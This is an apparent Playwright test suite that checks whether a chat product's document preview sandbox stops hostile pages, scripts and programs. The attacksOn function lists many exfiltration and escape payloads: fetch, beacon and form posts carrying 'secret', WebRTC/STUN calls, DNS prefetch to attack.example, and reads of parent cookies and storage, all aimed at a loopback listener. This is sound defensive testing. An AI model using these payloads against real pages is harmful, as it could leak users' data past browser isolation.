import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { type AddressInfo, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Browser, chromium, expect, type Page } from '@playwright/test';
import { typing } from '../../server/src/testing/stand-ins/model-server.ts';
import { signIn } from './support/accounts.ts';
import { browserProgram } from './support/browser.ts';
import { browserArguments } from './support/browser-arguments.ts';
import { answerDone, chat, openChatSignedIn, say } from './support/chat.ts';
import { test } from './support/test.ts';

// What hostile documents try, against a server that listens for anything at all: connections, datagrams, and names that are looked up.

/** Names below it are looked up by nothing but an attack. */
const names = 'attack.example';

/** Counts what arrives on loopback: each connection over TCP, with its first bytes, and each datagram. */
async function listen() {
  const arrived: string[] = [];
  const server = createServer((socket) => {
    arrived.push('connection');
    socket.on('data', (data) => arrived.push(data.toString('latin1').slice(0, 80)));
    socket.on('error', () => {});
  });
  const datagrams = createSocket('udp4');
  datagrams.on('message', (data) => arrived.push(`datagram of ${data.length}`));
  server.listen(0, '127.0.0.1');
  datagrams.bind(0, '127.0.0.1');
  await Promise.all([once(server, 'listening'), once(datagrams, 'listening')]);
  return {
    arrived,
    port: (server.address() as AddressInfo).port,
    udp: datagrams.address().port,
    close() {
      server.close();
      datagrams.close();
    },
  };
}

/** A page whose faults are not those of the product: its documents violate the policy on purpose. */
async function newPage(browser: Browser): Promise<Page> {
  return (await browser.newContext({ viewport: { width: 1280, height: 800 }, locale: 'en-US' })).newPage();
}

const panel = (page: Page) => page.getByRole('region', { name: 'Document', exact: true });
const frame = (page: Page) => panel(page).locator('iframe');
const inFrame = (page: Page) => panel(page).frameLocator('iframe');
const run = (page: Page) => panel(page).getByRole('button', { name: 'Run', exact: true });
const stop = (page: Page) => panel(page).getByRole('button', { name: 'Stop', exact: true });
const output = (page: Page) => panel(page).getByRole('region', { name: 'Output' });
const status = (page: Page, text: string | RegExp) => panel(page).getByRole('status').filter({ hasText: text });

type Block = { language: string; code: string };
const fenced = ({ language, code }: Block) => `\`\`\`\`${language}\n${code}\n\`\`\`\``;

type Answering = (answer: ReturnType<typeof typing>) => Promise<{ server: Parameters<typeof openChatSignedIn>[1] }>;

/** Opens a chat whose answer has these blocks. */
async function chatWith(browser: Browser, answering: Answering, blocks: readonly Block[]): Promise<Page> {
  const { server } = await answering(typing(blocks.map(fenced).join('\n\n'), 0));
  const page = await newPage(browser);
  // A guest has room for fewer documents.
  await signIn(page.context(), server);
  await openChatSignedIn(page, server);
  await say(page, 'Write them');
  await answerDone(page);
  return page;
}

/** Opens the document of a block, which is beside the chat from then on. */
async function open(page: Page, at: number): Promise<void> {
  const before = page.url();
  await chat.answers(page).locator('figure.code').nth(at).getByRole('button', { name: 'Open' }).click();
  await expect(panel(page)).toBeVisible();
  await expect.poll(() => page.url()).not.toBe(before);
}

const html = (code: string): Block => ({ language: 'html', code });
/** A page with a script that says when it has tried everything. */
const script = (code: string): Block =>
  html(
    `<!doctype html><body><p>Hello</p><script>try { ${code} } catch (error) { alert(error.name) } alert('tried')</script>`,
  );

/** A call, whose first packets go to this port. */
const callTo = (udp: number) =>
  `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))`;

/** What documents try, by name. Each says "tried" at its end. */
function attacksOn({ port, udp }: { port: number; udp: number }): Record<string, Block> {
  const at = `127.0.0.1:${port}`;
  const host = `http://${at}`;
  const call = callTo(udp);
  const inner = `<script>${call.replaceAll("'", '`')}<\\/script>`;
  return {
    fetch: script(`fetch('${host}/fetch').catch(() => {}); fetch('http://fetch.${names}/').catch(() => {})`),
    xhr: script(`const x = new XMLHttpRequest(); x.open('POST', '${host}/xhr'); x.send('secret')`),
    socket: script(`new WebSocket('ws://${at}/socket')`),
    events: script(`new EventSource('${host}/events')`),
    transport: script(`new WebTransport('https://${at}/transport')`),
    beacon: script(
      `navigator.sendBeacon('${host}/beacon', 'secret'); fetch('${host}/keep', { keepalive: true }).catch(() => {})`,
    ),
    pictures: script(
      `new Image().src = '${host}/picture'; const s = document.createElement('div'); s.style.background = 'url(${host}/background)'; document.body.append(s)`,
    ),
    media: script(
      `new Audio('${host}/audio').play().catch(() => {}); const v = document.createElement('video'); v.poster = '${host}/poster'; document.body.append(v)`,
    ),
    markup: html(
      `<link rel="stylesheet" href="${host}/style"><link rel="preconnect" href="${host}"><link rel="dns-prefetch" href="http://markup.${names}"><link rel="prefetch" href="${host}/prefetch"><link rel="preload" as="script" href="${host}/preload"><link rel="modulepreload" href="${host}/module"><style>@import "${host}/import"; @font-face { font-family: x; src: url(${host}/font) } body { font-family: x; background: url(${host}/css) }</style><img src="${host}/img" srcset="${host}/set 2x"><iframe src="${host}/frame"></iframe><object data="${host}/object"></object><embed src="${host}/embed"><video src="${host}/video"></video><svg><image href="${host}/svg"/><use href="${host}/use#a"/></svg><script src="${host}/script"></script><script>alert('tried')</script>`,
    ),
    hints: script(
      `for (const rel of ['preconnect', 'dns-prefetch', 'prefetch']) { const l = document.createElement('link'); l.rel = rel; l.href = rel === 'dns-prefetch' ? 'http://hint.${names}' : '${host}'; document.head.append(l) } document.body.insertAdjacentHTML('beforeend', '<link rel=preconnect href=${host}><link rel=dns-prefetch href=http://markup-hint.${names}>')`,
    ),
    'hints by XML': script(
      `const d = new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY e "&#60;h:link xmlns:h=\\'http://www.w3.org/1999/xhtml\\' rel=\\'preconnect\\' href=\\'${host}\\'/>">]><a>&e;<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="preconnect" href="${host}"/></a>', 'application/xml'); document.body.append(document.adoptNode(d.documentElement))`,
    ),
    rules: script(
      `const s = document.createElement('script'); s.type = 'speculationrules'; s.text = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${host}/rules'], eagerness: 'immediate' }], prerender: [{ source: 'list', urls: ['http://rules.${names}/'] }] }); document.head.append(s)`,
    ),
    refresh: html(`<meta http-equiv="refresh" content="0;url=${host}/refresh"><script>alert('tried')</script>`),
    'refresh by script': script(
      `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${host}/refresh'; document.head.append(m)`,
    ),
    link: script(
      `const a = document.createElement('a'); a.href = '${host}/link'; a.ping = '${host}/ping'; document.body.append(a); a.click()`,
    ),
    popup: script(
      `window.open('${host}/popup'); const a = document.createElement('a'); a.href = '${host}/blank'; a.target = '_blank'; document.body.append(a); a.click()`,
    ),
    form: script(
      `const f = document.createElement('form'); f.action = '${host}/form'; f.method = 'post'; document.body.append(f); f.submit(); f.requestSubmit()`,
    ),
    'form of the page': html(
      `<form action="${host}/form"><input name="a" value="secret"><button id="b">x</button></form><script>b.click(); alert('tried')</script>`,
    ),
    location: script(`setTimeout(() => { location = '${host}/location' }, 0)`),
    'location by script': script(`location = 'javascript:"${inner}"'`),
    'location by data': script(`location = 'data:text/html,${inner.replaceAll('"', '')}'`),
    'location by blob': script(`location = URL.createObjectURL(new Blob(['${inner}'], { type: 'text/html' }))`),
    write: script(
      `document.open(); document.write('${inner}'); document.close(); document.write('<ifr'); document.write('ame srcdoc="x"></iframe>')`,
    ),
    calls: script(call),
    'calls by another name': script(
      `const c = new webkitRTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }] }); c.createDataChannel('x')`,
    ),
    'calls in frames': script(
      `const f = document.createElement('iframe'); f.srcdoc = '${inner}'; document.body.append(f); document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="${inner.replaceAll('"', '')}"></iframe>'); const t = document.createElement('template'); t.innerHTML = '<iframe srcdoc="x"></iframe><object data="data:text/html,x"></object>'; document.body.append(t.content.cloneNode(true))`,
    ),
    'calls in hidden roots': script(
      `const h = document.createElement('div'); document.body.append(h); h.attachShadow({ mode: 'closed' }).innerHTML = '<iframe srcdoc="${inner.replaceAll('"', '')}"></iframe>'; const d = document.createElement('div'); document.body.append(d); d.setHTMLUnsafe && d.setHTMLUnsafe('<p><template shadowrootmode="closed"><iframe srcdoc="x"></iframe></template></p>')`,
    ),
    'calls in frames of the page': html(
      `<iframe srcdoc="${inner.replaceAll('"', '').replace('<\\/', '</')}"></iframe><div><template shadowrootmode="open"><iframe srcdoc="x"></iframe></template></div><frameset><frame src="javascript:1"></frameset><script>alert('tried')</script>`,
    ),
    'calls in a worker': script(
      `new Worker(URL.createObjectURL(new Blob(["fetch('${host}/worker').catch(() => {}); importScripts('${host}/import')"])))`,
    ),
    'built-in elements': script(
      `class L extends HTMLLinkElement {} customElements.define('x-l', L, { extends: 'link' }); const l = new L(); l.rel = 'preconnect'; l.href = '${host}'; document.head.append(l)`,
    ),
    modules: script(
      `import('${host}/module.js').catch(() => {}); const m = document.createElement('script'); m.type = 'module'; m.src = '${host}/script.js'; document.body.append(m)`,
    ),
    payment: script(
      `new PaymentRequest([{ supportedMethods: '${host}/pay' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment()`,
    ),
    animation: html(
      `<svg xmlns="http://www.w3.org/2000/svg"><a id="a" href="#"><animate attributeName="href" values="${host}/animate" begin="0s" fill="freeze"/><circle r="40"/></a></svg><script>setTimeout(() => a.dispatchEvent(new MouseEvent('click', { bubbles: true })), 50); alert('tried')</script>`,
    ),
    picture: {
      language: 'svg',
      code: `<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50"><script>fetch('${host}/svg')</script><image href="${host}/image" width="9" height="9"/><style>@import '${host}/style';</style><rect width="50" height="50" onload="fetch('${host}/load')"/></svg>`,
    },
    react: {
      language: 'jsx',
      code: `export default function App() {\n  fetch('${host}/react').catch(() => {});\n  alert('tried');\n  return <img src="${host}/picture" />;\n}`,
    },
    javascript: {
      language: 'js',
      code: `fetch('${host}/program').catch(() => {});\nnew WebSocket('ws://${at}/').onerror = () => {};\nawait import('${host}/module.js').catch(() => {});\nconsole.log('tried');`,
    },
    python: {
      language: 'python',
      code: `import urllib.request\nfrom js import fetch\ntry:\n    await fetch('${host}/python')\nexcept Exception:\n    pass\ntry:\n    urllib.request.urlopen('http://python.${names}/')\nexcept Exception:\n    pass\nprint('tried')`,
    },
    readers: script(
      `for (const read of [() => parent.document.title, () => top.document.cookie, () => parent.localStorage.length, () => parent.location.href, () => frameElement.id, () => indexedDB.open('noek').onsuccess, () => caches.keys().then(alert), () => navigator.serviceWorker.getRegistrations().then(alert), () => { top.location = '${host}/top' }, () => { parent.postMessage({ type: 'drawn', id: 1, svg: '<svg/>', width: 1, height: 1 }, '*'); throw new Error('sent') }]) try { alert('READ ' + read()) } catch (error) { alert(error.name) }`,
    ),
  };
}

const parts = 4;

for (let part = 1; part <= parts; part++)
  test(`nothing arrives, nothing is read, and the chat goes on (${part} of ${parts})`, async ({ answering }) => {
    test.slow();
    const listener = await listen();
    const folder = await mkdtemp(join(tmpdir(), 'noek-attacks-'));
    const browser = await chromium.launch({
      ...browserProgram,
      args: [...browserArguments, `--log-net-log=${join(folder, 'network.json')}`],
    });
    try {
      const all = Object.entries(attacksOn(listener));
      const size = Math.ceil(all.length / parts);
      await attack(browser, answering, listener, Object.fromEntries(all.slice((part - 1) * size, part * size)));
      // Names that are looked up are in the browser's log.
      await browser.close();
      const log = await readFile(join(folder, 'network.json'), 'utf8');
      const found = log.match(new RegExp(`[\\w-]+\\.${names.replace('.', '\\.')}`, 'g'));
      expect(new Set(found)).toEqual(new Set([`control.${names}`]));
    } finally {
      await browser.close();
      listener.close();
      await rm(folder, { recursive: true });
    }
  });

async function attack(
  browser: Browser,
  answering: Answering,
  listener: Awaited<ReturnType<typeof listen>>,
  attacks: Record<string, Block>,
): Promise<void> {
  const page = await chatWith(browser, answering, Object.values(attacks));
  await page.evaluate(() => {
    localStorage.setItem('read', 'me');
  });
  const { pathname } = new URL(page.url());
  let isFirst = true;
  for (const [number, name] of Object.keys(attacks).entries()) {
    await test.step(name, async () => {
      await open(page, number);
      if (isFirst) await run(page).click();
      isFirst = false;
      if (name === 'picture') await expect(inFrame(page).locator('img')).toBeVisible();
      else await expect(output(page), name).toContainText('tried', { timeout: 60_000 });
      // What arrives comes within moments, and this test is about nothing coming.
      await page.waitForTimeout(400);
      expect(listener.arrived, name).toEqual([]);
      expect(await output(page).allTextContents(), name).not.toContain('READ');
      expect(new URL(page.url()).pathname, name).toBe(pathname);
      expect(page.context().pages(), name).toHaveLength(1);
      await chat.input(page).fill('');
      await chat.input(page).pressSequentially('the chat goes on');
      await expect(chat.input(page)).toHaveValue('the chat goes on');
    });
  }
  expect(await page.evaluate(() => document.title)).toContain('Noek');

  // Where nothing shuts a page in, the same things arrive: the server does listen.
  const host = `http://127.0.0.1:${listener.port}`;
  const bare = await browser.newContext({ bypassCSP: true }).then((context) => context.newPage());
  // From this machine, as the product's own pages: browsers keep other pages from reaching loopback.
  await bare.goto(new URL('/robots.txt', page.url()).href);
  await bare.setContent(
    `<img src="${host}/control"><script>${callTo(listener.udp)}; new Image().src = 'http://control.${names}/'</script>`,
    { waitUntil: 'commit' },
  );
  await expect.poll(() => listener.arrived.filter((each) => each.startsWith('GET /control')).length).toBeGreaterThan(0);
  await expect.poll(() => listener.arrived.some((each) => each.startsWith('datagram'))).toBe(true);
  await bare.close();
  listener.arrived.length = 0;
}

test('before a page runs, none of its scripts does', async ({ answering, browser }) => {
  const page = await chatWith(browser, answering, [
    html(
      `<body onload="alert(1)"><p id="p">Still</p><img src="x" onerror="alert(2)"><script>p.textContent = 'Changed'; alert(3)</script><svg onload="alert(4)"><animate attributeName="x" onbegin="alert(5)" begin="0s" dur="1s"/></svg><a href="java&#10;script:alert(6)">Link</a><template><script>alert(7)</script></template><details open ontoggle="alert(8)">x</details></body>`,
    ),
  ]);
  await open(page, 0);
  await expect(inFrame(page).locator('#p')).toHaveText('Still');
  await inFrame(page).getByText('Link').click();
  await expect(status(page, 'Shown without its scripts.')).toBeVisible();
  await page.waitForTimeout(500);
  await expect(output(page)).toHaveCount(0);
  await expect(inFrame(page).locator('#p')).toHaveText('Still');
  await run(page).click();
  await expect(inFrame(page).locator('#p')).toHaveText('Changed');
  await expect(output(page)).toContainText('3');
  await stop(page).click();
  await expect(inFrame(page).locator('#p')).toHaveText('Still');
});

test('what never ends, or sends without end, is stopped, and the chat answers meanwhile', async ({
  answering,
  browser,
}) => {
  test.slow();
  const blocks: [Block, RegExp][] = [
    [html('<p>Loop</p><script>for (;;);</script>'), /did not answer for 10 seconds/],
    [
      html('<script>for (;;) parent.postMessage({ type: "output", stream: "out", text: "x" }, "*")</script>'),
      /sent too much|did not answer/,
    ],
    [
      html(
        '<script>setInterval(() => { for (let i = 0; i < 100; i++) parent.postMessage("x".repeat(1000), "*") })</script>',
      ),
      /sent too much/,
    ],
    [
      html('<script>parent.postMessage({ type: "output", stream: "out", text: "x".repeat(5_000_000) }, "*")</script>'),
      /sent too much/,
    ],
    [{ language: 'jsx', code: 'export default function App() {\n  for (;;);\n}' }, /did not answer for 10 seconds/],
    [{ language: 'js', code: 'for (;;);' }, /ran for 10 seconds and was stopped/],
    [
      { language: 'js', code: 'for (;;) console.log("x".repeat(1000));' },
      /ran for 10 seconds and was stopped|sent too much/,
    ],
    [{ language: 'js', code: 'const all = [];\nfor (;;) all.push(new Array(1e6).fill(1));' }, /./],
  ];
  const page = await chatWith(
    browser,
    answering,
    blocks.map(([block]) => block),
  );
  let isFirst = true;
  for (const [at, [block, said]] of blocks.entries())
    await test.step(block.code, async () => {
      await open(page, at);
      if (isFirst) await run(page).click();
      isFirst = false;
      await chat.input(page).fill('');
      const before = Date.now();
      await chat.input(page).pressSequentially('the chat goes on', { delay: 20 });
      expect(Date.now() - before).toBeLessThan(10_000);
      await expect(chat.input(page)).toHaveValue('the chat goes on');
      await expect(status(page, said)).toBeVisible({ timeout: 40_000 });
      await expect(frame(page)).toHaveCount(0);
    });
  // It runs at once, because the person has run documents of this chat, and ends when they say so.
  await open(page, 0);
  await expect(stop(page)).toBeVisible();
  await stop(page).click();
  await expect(inFrame(page).getByText('Loop')).toBeVisible();
  await expect(run(page)).toBeVisible();
});

test('the message box keeps the focus, unless the person clicks into the frame', async ({ answering, browser }) => {
  const page = await chatWith(browser, answering, [
    html('<input id="i" aria-label="Trap"><script>setInterval(() => { window.focus(); i.focus() }, 700)</script>'),
    html('<input id="i"><script>setInterval(() => { window.focus(); i.focus() }, 30)</script>'),
  ]);
  await open(page, 0);
  await run(page).click();
  await expect(stop(page)).toBeVisible();
  await chat.input(page).click();
  // Over several of its attempts.
  await chat.input(page).pressSequentially('it', { delay: 900 });
  await expect(chat.input(page)).toHaveValue('it');
  await expect(chat.input(page)).toBeFocused();
  await inFrame(page).getByLabel('Trap').click();
  await page.keyboard.type('for the page');
  await expect(inFrame(page).getByLabel('Trap')).toHaveValue('for the page');
  await expect(chat.input(page)).toHaveValue('it');

  await open(page, 1);
  await chat.input(page).click();
  await expect(status(page, 'It kept taking the focus and was stopped.')).toBeVisible();
  await expect(frame(page)).toHaveCount(0);
  await chat.input(page).fill('');
  await chat.input(page).pressSequentially('what I type stays here');
  await expect(chat.input(page)).toHaveValue('what I type stays here');
});

test('a page that leaves is stopped', async ({ answering, browser }) => {
  const page = await chatWith(browser, answering, [html('<script>location = "/preview/frame?again"</script>')]);
  await open(page, 0);
  await run(page).click();
  await expect(status(page, 'It tried to leave its page and was stopped.')).toBeVisible();
  await expect(frame(page)).toHaveCount(0);
});
